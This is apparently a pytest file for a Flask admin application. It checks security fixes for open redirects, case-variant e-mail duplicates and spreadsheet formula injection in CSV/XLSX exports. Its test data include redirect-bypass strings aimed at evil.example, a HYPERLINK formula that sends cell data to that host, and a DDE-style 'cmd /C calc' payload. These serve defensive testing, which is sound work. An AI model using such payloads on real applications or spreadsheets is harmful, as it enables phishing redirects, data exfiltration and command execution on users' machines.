"""Redirect targets stay on this site; e-mail addresses are one account whatever their case
(security report §1.1)."""

from __future__ import annotations

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient

from app import tenancy
from app.extensions import db
from app.models import User
from app.web.redirects import safe_next_url
from tests import factories
from tests.conftest import sign_in

HOSTILE = [
    "/\t/evil.example",
    "/%09/evil.example",
    "/\n/evil.example",
    "/\r\n/evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "//evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "evil.example",
    "/\x7f/evil.example",
]


@pytest.mark.parametrize("target", HOSTILE)
def test_safe_next_url_refuses_other_sites(target: str) -> None:
    assert safe_next_url(target, "/admin/") == "/admin/"


@pytest.mark.parametrize("target", ["/admin/user/", "/admin/participant/?search=x&page=2"])
def test_safe_next_url_keeps_paths_of_this_site(target: str) -> None:
    assert safe_next_url(target, "/admin/") == target


def _leaves_site(location: str) -> bool:
    stripped = "".join(char for char in location if char not in "\t\r\n")
    return stripped.replace("\\", "/").startswith("//") or "evil.example" in stripped


def test_the_sign_in_page_does_not_redirect_away(
    client: FlaskClient, world: factories.World
) -> None:
    email = world.users["coordinator"].email
    response = client.post(
        "/login?next=/%09/evil.example", data={"email": email, "password": factories.PASSWORD}
    )
    assert response.status_code == 302
    assert not _leaves_site(response.headers["Location"])
    # Already signed in: the same check.
    response = client.get("/login?next=/%09/evil.example")
    assert not _leaves_site(response.headers["Location"])


def test_the_language_switch_does_not_redirect_away(
    coordinator_client: FlaskClient,
) -> None:
    for target in ("/\t/evil.example", "/\\evil.example"):
        response = coordinator_client.post("/language/fr", data={"next": target})
        assert response.status_code == 302
        assert not _leaves_site(response.headers["Location"])


def _emails() -> list[str]:
    db.session.remove()
    with tenancy.unscoped():
        return list(db.session.scalars(sa.select(User.email).order_by(User.id)))


def test_a_case_variant_of_another_organisations_email_is_refused_neutrally(
    client: FlaskClient, world: factories.World
) -> None:
    taken = world.users["coordinator"].email  # of world.org
    sign_in(client, world.other_users["admin"].email)
    before = _emails()
    for variant in (taken.upper(), taken.capitalize(), taken):
        response = client.post(
            "/admin/user/new/",
            data={"email": variant, "role": "coordinator", "password": "a fine new passphrase",
                  "active": "y"},
            follow_redirects=True,
        )
        text = response.get_data(as_text=True)
        assert "this address cannot be used" in text
        for leak in ("IntegrityError", "INSERT", "UNIQUE", "already exists", "Key (email)"):
            assert leak not in text
    assert _emails() == before


def test_an_email_is_stored_lower_case_and_signs_in_whatever_the_case(
    app: Flask, client: FlaskClient, world: factories.World
) -> None:
    sign_in(client, world.users["admin"].email)
    response = client.post(
        "/admin/user/new/",
        data={"email": "  New.Person@Example.TEST ", "role": "viewer",
              "password": "a fine new passphrase", "active": "y"},
    )
    assert response.status_code == 302
    assert "new.person@example.test" in _emails()
    other = app.test_client()
    response = other.post(
        "/login", data={"email": "NEW.PERSON@example.test", "password": "a fine new passphrase"}
    )
    assert response.status_code == 302


def test_the_database_refuses_an_upper_case_email(world: factories.World) -> None:
    """Whatever path writes it, the address lands lower-case or not at all."""
    with tenancy.unscoped():
        user = db.session.get(User, world.users["viewer"].id)
        user.email = "Mixed@Case.TEST"  # the model lower-cases it
        db.session.commit()
        assert user.email == "mixed@case.test"
        raw = sa.text("UPDATE user_account SET email = 'Raw@Case.TEST' WHERE id = :id")
        with pytest.raises(sa.exc.IntegrityError):
            db.session.execute(raw, {"id": user.id})
        db.session.rollback()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("export_type", ["csv", "xlsx"])
def test_exports_carry_no_live_formula(
    coordinator_client: FlaskClient, world: factories.World, export_type: str
) -> None:
    import csv
    import io

    import openpyxl

    people = world.participants
    with tenancy.organisation_scope(world.org.id):
        for person, formula in zip(people, FORMULAS, strict=False):
            person.last_name = formula
        people[-1].first_name = FORMULAS[-1]
        db.session.commit()
    response = coordinator_client.get(f"/admin/participant/export/{export_type}/")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    if export_type == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.value for cell in cells if cell.data_type == "f"]
        values = [str(cell.value) for cell in cells if cell.value is not None]
    else:
        values = [v for row in csv.reader(io.StringIO(response.get_data(as_text=True)))
                  for v in row]
    for formula in FORMULAS[: len(people)]:
        assert "'" + formula in values
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
